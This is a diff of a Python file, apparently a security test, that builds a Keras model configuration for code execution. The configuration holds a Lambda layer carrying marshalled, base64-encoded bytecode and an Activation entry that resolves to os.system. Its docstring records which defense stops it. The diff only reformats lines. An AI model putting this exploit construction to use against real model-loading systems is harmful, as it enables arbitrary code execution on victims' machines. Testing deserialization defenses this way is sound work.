@@ -4,6 +4,7 @@ stopped by: plain data only
 unfenced: held
 says: expected a NumPy array
 """
+
 # %%
 import base64
 import marshal
@@ -22,7 +23,10 @@ def payload(target=f"{BAIT}/target"):
 
 
 CODE = base64.b64encode(marshal.dumps(payload.__code__)).decode()
-LAMBDA = {"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": CODE, "defaults": [f"{BAIT}/target"], "closure": None}}}}
+LAMBDA = {
+    "class_name": "Lambda",
+    "config": {"function": {"class_name": "__lambda__", "config": {"code": CODE, "defaults": [f"{BAIT}/target"], "closure": None}}},
+}
 MODULE = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
 SEQUENTIAL = {"module": "keras", "class_name": "Sequential", "config": {"layers": [LAMBDA, {"class_name": "Activation", "config": {"activation": MODULE}}]}}
 
